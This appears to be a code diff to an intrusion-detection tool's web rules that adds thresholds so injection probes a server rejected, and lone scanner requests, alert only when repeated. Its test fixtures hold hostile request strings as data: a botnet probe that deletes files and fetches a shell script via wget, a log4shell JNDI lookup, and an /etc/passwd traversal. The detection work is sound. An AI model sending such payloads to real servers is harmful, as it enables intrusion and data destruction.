@@ -3,8 +3,18 @@ import { findHeaderInjection, findInjection, type InjectionType } from '../patte
 import { createScannerAgentMatcher, isResearchScanner } from '../patterns/scanners.js';
 import { createSensitivePathMatcher } from '../patterns/sensitive-paths.js';
 import type { Rule, Severity } from '../types.js';
-import { DistinctCounter } from '../windows.js';
-import { HOUR, MINUTE, during, evidenceOf, ipsOf, onHosts, plural, sources } from './kit.js';
+import { DistinctCounter, SlidingCounter } from '../windows.js';
+import {
+  HOUR,
+  MINUTE,
+  ThresholdCounter,
+  during,
+  evidenceOf,
+  ipsOf,
+  onHosts,
+  plural,
+  sources,
+} from './kit.js';
 
 const request = (
   ip: string,
@@ -21,16 +31,23 @@ export const webInjection: Rule = {
     category: 'web-attack',
     severity: 'medium',
     description:
-      'Injection payloads in the path or query (SQL injection, XSS, path traversal, command injection, template injection), URL-decoded before matching, and log4shell / Shellshock in the user agent or referer.',
+      'Injection payloads in the path or query (SQL injection, XSS, path traversal, command injection, template injection), URL-decoded before matching, and log4shell / Shellshock in the user agent or referer. One that reached the application (any answer but 4xx) alerts at once; botnet probes the server turned away (404, 400, 403) alert only when an address sends several.',
     mitre: 'T1190 Exploit Public-Facing Application',
-    thresholds: {},
-    thresholdDocs: {},
+    thresholds: { attempts: 3, windowMs: HOUR },
+    thresholdDocs: {
+      attempts: 'turned-away injection attempts from one address…',
+      windowMs: '…within this time',
+    },
     action:
       'Block {ip}; check the responses to these requests (a 200 to an injection deserves a look at the application log) and that the application is patched.',
     examples: {
       valid: [
         { name: 'a search for c++ jobs', lines: [request('84.10.2.3', '/jobs?q=c%2B%2B+developer', 200)] },
         { name: 'an apostrophe in a name', lines: [request('84.10.2.3', '/jobs?q=o%27brien', 200)] },
+        {
+          name: 'a lone botnet probe the server turned away',
+          lines: [request('198.51.100.77', '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/x.sh', 404)],
+        },
       ],
       invalid: [
         {
@@ -49,11 +66,29 @@ export const webInjection: Rule = {
           lines: [request('45.155.205.7', '/', 200, '${jndi:ldap://198.51.100.1:1389/a}')],
           alerts: [{ rule: 'web-injection', severity: 'high' }],
         },
+        {
+          name: 'probes turned away, but three of them',
+          lines: [
+            {
+              line: request('45.155.205.6', '/index.php?page=../../../etc/passwd&n={i}', 404),
+              times: 3,
+              every: '1m',
+            },
+          ],
+          alerts: [{ rule: 'web-injection', count: 3 }],
+        },
       ],
     },
   },
   create(ctx) {
+    const turnedAway = new SlidingCounter(ctx.thresholds.windowMs ?? 0);
+    let nextSweep = 0;
     return {
+      tick: (now) => {
+        if (now < nextSweep) return;
+        nextSweep = now + (ctx.thresholds.windowMs ?? 0);
+        turnedAway.sweep(now);
+      },
       on: {
         [EventKinds.httpRequest]: (event) => {
           const ip = event.ip;
@@ -63,6 +98,23 @@ export const webInjection: Rule = {
             (event.ua === undefined ? undefined : findHeaderInjection(event.ua)) ??
             (event.referer === undefined ? undefined : findHeaderInjection(event.referer));
           if (match === undefined) return;
+          const status = event.status ?? 0;
+          // The internet's botnets spray these at every server; one the server turned away is noise.
+          if (status >= 400 && status < 500 && !ctx.isActive(ip, event.ts)) {
+            const attempts = turnedAway.add(ip, event.ts);
+            if (attempts < (ctx.thresholds.attempts ?? 0)) return;
+            ctx.report({
+              key: ip,
+              ts: event.ts,
+              count: attempts,
+              since: turnedAway.oldest(ip),
+              severity: INJECTION_SEVERITY[match.type],
+              ...evidenceOf(event),
+              ips: [ip],
+              facts: { [match.type]: 1, last: match.type },
+            });
+            return;
+          }
           ctx.report({
             key: ip,
             ts: event.ts,
@@ -100,11 +152,23 @@ export const webScannerAgent: Rule = {
     description:
       'Requests whose user agent names an attack or vulnerability-scanning tool (sqlmap, Nikto, Nmap, masscan, zgrab, Acunetix, Netsparker, w3af, WPScan, Nuclei, …). Internet research scanners (Censys, Shodan) are not reported.',
     mitre: 'T1595.002 Active Scanning: Vulnerability Scanning',
-    thresholds: {},
-    thresholdDocs: {},
+    thresholds: { requests: 5, windowMs: 10 * MINUTE },
+    thresholdDocs: {
+      requests: 'requests with a scanner user agent from one address',
+      windowMs: 'within this time (a lone zgrab or Nmap probe is background noise)',
+    },
     action: 'Block {ip}; if the scan was yours, add its address to `detection.allowlist.ips`.',
     examples: {
-      valid: [{ name: 'a browser', lines: [request('84.10.2.3', '/jobs', 200)] }],
+      valid: [
+        { name: 'a browser', lines: [request('84.10.2.3', '/jobs', 200)] },
+        {
+          name: 'a lone zgrab probe, as every server gets daily',
+          lines: [
+            request('198.51.100.78', '/', 200, 'Mozilla/5.0 zgrab/0.x'),
+            request('198.51.100.78', '/favicon.ico', 404, 'Mozilla/5.0 zgrab/0.x'),
+          ],
+        },
+      ],
       invalid: [
         {
           name: 'sqlmap',
@@ -122,14 +186,18 @@ export const webScannerAgent: Rule = {
   },
   create(ctx) {
     const scanner = createScannerAgentMatcher(ctx.options.scannerAgents);
+    const counter = new ThresholdCounter(ctx, ctx.thresholds.windowMs ?? 0, ctx.thresholds.requests ?? 0);
     return {
+      tick: (now) => {
+        counter.sweep(now);
+      },
       on: {
         [EventKinds.httpRequest]: (event) => {
           const ip = event.ip;
           if (ip === undefined || event.ua === undefined) return;
           const tool = scanner(event.ua);
-          if (tool === undefined || isResearchScanner(tool) || ctx.extend(ip, event)) return;
-          ctx.report({ key: ip, ts: event.ts, ...evidenceOf(event), ips: [ip], facts: { tool } });
+          if (tool === undefined || isResearchScanner(tool)) return;
+          counter.add(ip, event, () => ({ ...evidenceOf(event), ips: [ip], facts: { tool } }));
         },
       },
     };
